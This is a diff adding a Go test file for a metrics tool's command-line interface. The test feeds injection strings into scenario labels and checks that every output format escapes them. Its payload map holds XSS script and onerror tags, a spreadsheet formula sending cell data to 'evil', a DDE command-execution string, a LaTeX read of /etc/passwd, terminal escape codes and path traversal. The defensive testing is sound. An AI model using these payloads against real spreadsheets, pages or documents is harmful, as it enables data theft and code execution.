@@ -1,0 +1,198 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"image/png"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"unicode"
+	"unicode/utf8"
+
+	"tallynet/metrics/escape"
+	"tallynet/metrics/result"
+)
+
+// hostileLabels are names that attack one sink or another.
+var hostileLabels = map[string]string{
+	"terminal":    "\x1b[31mred\x1b[2J\x07 \u202ertl \x00 \u009b31m",
+	"markdown":    "# [x](javascript:alert(1)) | a ![](http://evil/x.png) `x` <b>",
+	"html":        `</script><script>alert(1)</script><img src=x onerror="alert(1)">`,
+	"spreadsheet": `=HYPERLINK("http://evil/"&A1)`,
+	"plus":        "+cmd|' /C calc'!A0",
+	"at":          "@SUM(A1)\r\n=1",
+	"latex":       `\input{/etc/passwd} $x$ & % # _ ~ ^ {α=β} "é" ½ 中 \\[1cm]`,
+	"xml":         "]]> &amp; <!-- \ufffe \v",
+	"long":        strings.Repeat("long", 2500),
+	"path":        "../../../etc/./x",
+}
+
+// TestHostileLabels gives one hostile text after the other to every field of a scenario
+// that takes text, and holds every output of the study against a parser of its format.
+func TestHostileLabels(t *testing.T) {
+	pdflatex, _ := exec.LookPath("pdflatex") // where it is missing, the tables are tested in metrics/render
+	for kind, label := range hostileLabels {
+		t.Run(kind, func(t *testing.T) {
+			t.Chdir(t.TempDir())
+			text, err := json.Marshal(label)
+			if err != nil {
+				t.Fatal(err)
+			}
+			scenario := strings.ReplaceAll(hostileScenario, "LABEL", string(text))
+			if err := os.WriteFile("s.yaml", []byte(scenario), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			for _, command := range [][]string{{"run", "s.yaml", "--out", "r"}, {"report", "r", "--format", "md"}} {
+				out, errs, code := simulate(command...)
+				if code != codeDone {
+					t.Fatalf("code %d: %.2000s", code, errs)
+				}
+				checkClean(t, "standard output of "+command[0], out)
+				checkClean(t, "standard error of "+command[0], errs)
+			}
+			files, err := filepath.Glob("r/*.*")
+			if err != nil || len(files) < 15 {
+				t.Fatalf("%d files: %v", len(files), err)
+			}
+			for _, file := range files {
+				content, err := os.ReadFile(file)
+				if err != nil {
+					t.Fatal(err)
+				}
+				checkFile(t, file, content, label, pdflatex)
+			}
+			back, err := result.ReadFolder("r")
+			if err != nil || back.Runs[0].Label != label {
+				t.Errorf("reads back as %q: %v", back.Runs[0].Label, err)
+			}
+		})
+	}
+}
+
+const hostileScenario = `version: 1
+name: LABEL
+about: LABEL
+seeds: 2
+topology: {kind: ring, nodes: 4}
+problem: {kind: quadratic, p: 2, q: 3}
+algorithms:
+  - {name: dagm, label: LABEL, outer: 4, inner: 2, neumann: 3, alpha: 0.02, beta: 0.05}
+  - {name: dagm, label: B, outer: 4, inner: 2, neumann: 3, alpha: 0.02, beta: 0.05}
+sweep: {problem.q: [3, 4]}
+stop: {grad_norm2: 1e-9}
+claims:
+  - {text: LABEL, source: LABEL, printed: LABEL, expected: differs, reason: LABEL, check: 'all(runs("B"), .totals.matrix_bytes == 1)'}
+tables:
+  - name: bytes
+    title: LABEL
+    source: LABEL
+    columns: [LABEL, b]
+    rows:
+      - {name: LABEL, printed: [LABEL, 2], cells: 'map(runs("B"), .totals.vector_bytes)[0:2]'}
+`
+
+// checkClean fails for characters that no output may have.
+func checkClean(t *testing.T, what, text string) {
+	t.Helper()
+	if !utf8.ValidString(text) {
+		t.Errorf("%s is not UTF-8", what)
+	}
+	for i, r := range text {
+		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) && r != '\u200d') {
+			t.Errorf("%s has %q in %q", what, r, text[max(0, i-40):min(len(text), i+40)])
+			return
+		}
+	}
+}
+
+// checkFile reads a file as the programs do for which it is meant.
+func checkFile(t *testing.T, file string, content []byte, label, pdflatex string) {
+	t.Helper()
+	if !strings.HasSuffix(file, ".png") && !strings.HasSuffix(file, ".json") { // JSON has escapes of its own
+		checkClean(t, file, string(content))
+	}
+	switch filepath.Ext(file) {
+	case ".json":
+		if !json.Valid(content) {
+			t.Errorf("%s is not JSON", file)
+		}
+	case ".png":
+		if _, err := png.Decode(bytes.NewReader(content)); err != nil {
+			t.Errorf("%s: %v", file, err)
+		}
+	case ".svg":
+		for d := xml.NewDecoder(bytes.NewReader(content)); ; {
+			if _, err := d.Token(); errors.Is(err, io.EOF) {
+				break
+			} else if err != nil {
+				t.Errorf("%s: %v", file, err)
+				break
+			}
+		}
+	case ".csv":
+		checkCSV(t, file, content, label)
+	case ".md":
+		// Every character that would be markup has a backslash before it.
+		plain := regexp.MustCompile(`\\.`).ReplaceAllString(string(content), "")
+		for _, markup := range []string{"<b", "<script", "<img", "](", "![", "http://", "`x`"} {
+			if strings.Contains(plain, markup) {
+				t.Errorf("%s has %s", file, markup)
+			}
+		}
+	case ".tex":
+		if pdflatex == "" {
+			return
+		}
+		for _, class := range []string{"", "[twocolumn]"} {
+			document := fmt.Sprintf("\\documentclass%s{article}\n\\usepackage{booktabs}\n\\begin{document}\n%s\n\\end{document}\n",
+				class, content)
+			if err := os.WriteFile("t.tex", []byte(document), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			out, err := exec.Command(pdflatex, "-interaction=nonstopmode", "-halt-on-error", "t.tex").CombinedOutput()
+			if err != nil || bytes.Contains(out, []byte("Overfull \\hbox")) {
+				t.Errorf("%s in article%s: %v\n%.3000s", file, class, err, out)
+			}
+		}
+	case ".html":
+		words, _, _ := bytes.Cut(content, []byte(`<script type="application/json"`)) // the library has an <img of its own
+		if n := bytes.Count(content, []byte("<script")); n != 3 || bytes.Contains(words, []byte("<img")) {
+			t.Errorf("%s has %d script elements, want 3, or an image", file, n)
+		}
+		data := regexp.MustCompile(`(?s)<script type="application/json"[^>]*>(.*?)</script>`).FindSubmatch(content)
+		var charts struct{ Methods []string }
+		if data == nil || json.Unmarshal(data[1], &charts) != nil || !slices.Contains(charts.Methods, escape.Name(label)) {
+			t.Errorf("%s names the methods %q, want %q among them", file, charts.Methods, escape.Name(label))
+		}
+	}
+}
+
+// checkCSV wants no cell that a spreadsheet would compute, and the label as it was.
+func checkCSV(t *testing.T, file string, content []byte, label string) {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
+	if err != nil {
+		t.Errorf("%s: %v", file, err)
+		return
+	}
+	found := false
+	for _, cell := range slices.Concat(rows...) {
+		found = found || escape.FromCSV(cell) == label
+		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+			t.Errorf("%s has the cell %q", file, cell)
+		}
+	}
+	if !found {
+		t.Errorf("%s does not have the label", file)
+	}
+}
